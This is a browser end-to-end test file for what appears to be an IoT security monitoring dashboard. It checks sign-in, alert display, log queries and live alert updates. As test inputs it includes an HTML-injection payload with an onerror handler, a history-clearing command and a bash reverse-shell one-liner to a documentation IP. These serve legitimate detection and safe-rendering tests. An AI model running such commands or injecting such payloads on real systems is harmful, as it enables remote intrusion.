// The page in headless Chromium, over the real server: every alert here was raised by what a device sent through the hub.
// Usage: node page.mjs [SCREENSHOTS], a folder for pictures of what was seen.
import assert from "node:assert/strict";
import { portsMessage, processMessage, publish, runAll, Server, until } from "../integration/harness.mjs";
import { ask, launch } from "./browser.mjs";

const server = await Server.start();
const browser = await launch(server, process.argv[2]);
const signedIn = (options, place) => browser.signedIn(options, place);
const picture = (page, name) => browser.picture(page, name);
await server.cli("hub", "create", "home");
const origin = server.profile.server;
const pump = await server.create("pump-3", "azureiotsecurity");
const gateway = await server.create("gateway-hall-b", "azureiotsecurity");
const hostile = "cpuminer-multi <img src=x onerror=alert(1)>";
await publish(server, pump, processMessage(hostile));
await publish(server, pump, processMessage("ls -l /opt")); // beside it in time, but no evidence
await publish(server, gateway, processMessage("history -c"));
await publish(server, gateway, portsMessage(["0.0.0.0", "23"]));
await server.rows('SecurityAlert | where AlertType in ("IoT_CryptoMiner", "IoT_ClearHistoryFile") | distinct SystemAlertId', 2);
await server.rows("SecurityRecommendation | distinct RecommendationId");
const [[minerId, minerLink, minerLinks]] = await server.query(`SecurityAlert | where CompromisedEntity == "pump-3" and AlertType == "IoT_CryptoMiner"
  | project SystemAlertId, AlertLink, ExtendedLinks`);

const failed = await runAll({
  async "asks for a token, refuses a wrong one, takes the right one"() {
    const page = await browser.newPage();
    await page.goto(origin);
    await page.getByRole("button", { name: "Sign in with an access token" }).click();
    await page.fill("#token", "wrong");
    await page.keyboard.press("Enter");
    await page.waitForSelector("[role=alert]");
    await page.fill("#token", server.profile.token);
    await page.keyboard.press("Enter");
    await page.waitForSelector(".tile");
    await page.close();
  },

  async "shows severities with words, a chart, alerts and devices, and asks no other host"() {
    const { page, complaints, hosts } = await signedIn();
    assert.equal(new URL(page.url()).hash, "", "the token stays in the address");
    for (const severity of ["High", "Medium", "Low", "Informational"]) {
      const tile = page.locator(`[data-severity=${severity}]`);
      assert.match(await tile.innerText(), new RegExp(severity));
      assert.equal(await tile.locator("svg").count(), 1);
    }
    await page.waitForSelector(".day > span");
    assert.ok((await page.locator("td.device").count()) > 0);
    assert.match(await page.locator("time").first().getAttribute("title"), / UTC/);
    await page.waitForSelector(".link.live");
    await page.waitForTimeout(500);
    await picture(page, "overview");
    assert.deepEqual([...hosts], [new URL(origin).host]);
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "shows an alert by keyboard alone, device text as text, and closes on Escape"() {
    const { page, complaints } = await signedIn();
    await page.locator("table.alerts button.link", { hasText: "miner" }).first().focus();
    await page.keyboard.press("Enter");
    const drawer = page.locator("dialog.drawer");
    await drawer.locator("pre.command").waitFor();
    assert.match(await drawer.locator("pre.command").innerText(), /<img src=x/);
    assert.equal(await drawer.locator("img").count(), 0);
    assert.equal(await drawer.locator(".evidence li").count(), 1);
    assert.match(await drawer.locator(".evidence").innerText(), /<img src=x/);
    assert.match(await drawer.innerText(), /T1496/);
    await drawer.locator(".process.meant").waitFor();
    await picture(page, "alert");
    await page.keyboard.press("Escape");
    await drawer.waitFor({ state: "detached" });
    const focused = () => page.evaluate(() => document.activeElement?.textContent ?? "");
    await until("the keyboard is back at what opened the drawer", async () => /miner/.test(await focused()), 5);
    await page.keyboard.press("Enter");
    await drawer.locator("button.device").focus();
    await page.keyboard.press("Enter"); // to the device: what opened the drawer is gone
    await page.locator("h2.device", { hasText: "pump-3" }).waitFor();
    await until("the keyboard is in the new place", () => page.evaluate(() => document.activeElement?.id === "place"), 5);
    assert.match(await page.title(), /pump-3 · Devices · Fieldwatch/);
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "follows an alert's own links: its page, and its query in the logs"() {
    assert.equal(minerLink, `${origin}/alerts/${minerId}`);
    const { page, complaints } = await signedIn({}, `/alerts/${minerId}`);
    const drawer = page.locator("dialog.drawer");
    await drawer.locator("pre.command").waitFor();
    await page.keyboard.press("Escape");
    await drawer.waitFor({ state: "detached" });
    assert.equal(new URL(page.url()).pathname, "/alerts");
    await page.goBack();
    await drawer.locator("pre.command").waitFor();
    const link = JSON.parse(minerLinks)[0].Href;
    assert.ok(link.startsWith(`${origin}/logs?query=`), link);
    await page.goto(link);
    await page.getByRole("heading", { name: "1 row" }).waitFor();
    assert.match(await page.locator("table.rows tbody").innerText(), /pump-3/);
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "shows a recommendation with what to close"() {
    const { page } = await signedIn();
    await page.locator(".findings button.link", { hasText: "Open Ports" }).click();
    assert.match(page.url(), /\/recommendations\?name=/);
    await page.locator(".groups .findings button.link").first().click();
    const drawer = page.locator("dialog.drawer");
    await drawer.getByText("0.0.0.0:23").first().waitFor();
    await picture(page, "recommendation");
    assert.match(page.url(), /\/recommendations\/[0-9a-f-]{36}$/);
    await page.close();
  },

  async "answers a query, says where a wrong one is wrong, and keeps device text text"() {
    const { page } = await signedIn();
    await page.getByRole("link", { name: "Logs" }).click();
    await ask(page, "SecurityIoTRawEvent\n| where DeviceIdd == 'pump-3'");
    await page.locator(".failure mark").waitFor();
    assert.equal(await page.locator(".failure mark").innerText(), "DeviceIdd");
    await picture(page, "logs-error");
    await ask(page, "SecurityIoTRawEvent\n| where RawEventName == 'ProcessCreate'\n| project TimeStamp, DeviceId, Command = tostring(parse_json(EventDetails).CommandLine)\n| order by TimeStamp desc");
    await page.locator("table.rows tbody tr").nth(1).waitFor();
    assert.match(await page.locator("table.rows").innerText(), /<img src=x/);
    assert.equal(await page.locator("table.rows img").count(), 0);
    await picture(page, "logs");
    await page.close();
  },

  async "lists alerts with filters that the address keeps, and as aggregates of a day"() {
    const { page, complaints } = await signedIn();
    await page.getByRole("link", { name: "Alerts", exact: true }).click();
    await page.getByLabel("Device", { exact: true }).fill("PUMP");
    await page.locator("table.alerts tbody tr").first().waitFor();
    await until("only the pump's alerts are there", async () => {
      const devices = await page.locator("table.alerts td.device").allInnerTexts();
      return devices.length > 0 && devices.every((one) => one === "pump-3");
    }, 5);
    assert.match(page.url(), /device=PUMP/);
    await page.getByLabel("Show").selectOption("daily");
    await page.getByRole("columnheader", { name: "Day (UTC)" }).waitFor();
    await picture(page, "alerts");
    await page.reload();
    await page.getByRole("columnheader", { name: "Day (UTC)" }).waitFor();
    assert.equal(await page.getByLabel("Device", { exact: true }).inputValue(), "PUMP");
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "lists recommendations by type, and devices with a way to each"() {
    const { page, complaints } = await signedIn();
    await page.getByRole("link", { name: "Recommendations", exact: true }).click();
    await page.locator(".groups summary", { hasText: "Open Ports" }).waitFor();
    await picture(page, "recommendations");
    await page.getByRole("link", { name: "Devices", exact: true }).click();
    await page.getByRole("searchbox", { name: "Name" }).fill("gateway");
    await until("only the gateway is listed", async () => (await page.locator("table tbody tr").count()) === 1, 5);
    await picture(page, "devices");
    await page.locator("td.device button").click();
    await page.locator("h2.device", { hasText: "gateway-hall-b" }).waitFor();
    assert.equal(new URL(page.url()).pathname, "/devices/gateway-hall-b");
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "leads from an alert to what its device did in four clicks, every tab a query that runs"() {
    const { page, complaints } = await signedIn();
    await page.locator("table.alerts button.link", { hasText: "miner" }).first().click();
    await page.locator("dialog.drawer button.device").click();
    await page.getByRole("link", { name: "Processes" }).click();
    await page.locator("table.rows tbody tr").nth(1).waitFor();
    assert.match(await page.locator("table.rows").innerText(), /<img src=x/);
    assert.equal(await page.locator("table.rows img").count(), 0);
    await picture(page, "device");
    const tabs = await page.locator("nav.tabs a").allInnerTexts();
    for (const tab of tabs) {
      await page.locator("nav.tabs a", { hasText: new RegExp(`^${tab}$`) }).click();
      await until(`${tab} is read`, async () => (await page.getByText("Reading…").count()) === 0, 30);
      assert.equal(await page.locator("[role=alert]").count(), 0, `${tab}: ${await page.locator("main").innerText()}`);
    }
    await page.locator("nav.tabs a", { hasText: /^Processes$/ }).click();
    await page.locator("table.rows tbody tr").nth(1).waitFor(); // what comes in moves the button
    await page.getByRole("button", { name: "Open in the logs" }).click();
    await page.locator(".query-editor .monaco-editor").waitFor();
    await page.locator("table.rows tbody tr").nth(1).waitFor();
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "draws what render asks for"() {
    const { page, complaints } = await signedIn();
    await page.getByRole("link", { name: "Logs" }).click();
    await ask(page, "SecurityIoTRawEvent\n| summarize Events = count() by RawEventName\n| render barchart with (title='Events by kind')");
    await page.locator(".chart canvas").waitFor();
    await page.waitForTimeout(300);
    await picture(page, "chart");
    await ask(page, "SecurityIoTRawEvent\n| project RawEventName\n| render timechart");
    await page.getByText("do not make a timechart").waitFor();
    assert.deepEqual(complaints, []);
    await page.close();
  },

  async "shows a new alert without being reloaded"() {
    const { page } = await signedIn();
    await page.waitForSelector(".link.live");
    const high = page.locator("[data-severity=High] .tile-number");
    const before = Number(await high.innerText());
    const rows = await page.locator("table.alerts tbody tr").count();
    const began = performance.now();
    await publish(server, gateway, processMessage("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
    const acknowledged = performance.now();
    await until("the alert is on the page", async () => (await page.locator("table.alerts tbody tr.fresh").count()) > 0, 10);
    const visible = performance.now();
    console.log(`     acknowledged after ${Math.round(acknowledged - began)} ms, visible ${Math.round(visible - acknowledged)} ms later`);
    assert.ok((await page.locator("table.alerts tbody tr").count()) > rows);
    await until("the tile counts it", async () => Number(await high.innerText()) > before, 5);
    await page.close();
  },

  async "is dark where the viewer's system is, and fits a phone"() {
    const dark = await signedIn({ colorScheme: "dark" });
    await dark.page.waitForSelector(".day > span");
    await dark.page.waitForTimeout(500);
    await picture(dark.page, "dark");
    await dark.page.close();
    const phone = await signedIn({ viewport: { width: 390, height: 844 } });
    const overflow = await phone.page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    await picture(phone.page, "phone");
    assert.ok(overflow <= 0, `the page is ${overflow} px wider than a phone`);
    await phone.page.close();
  },
});
await browser.close();
await server.stop();
process.exit(failed === 0 ? 0 : 1);
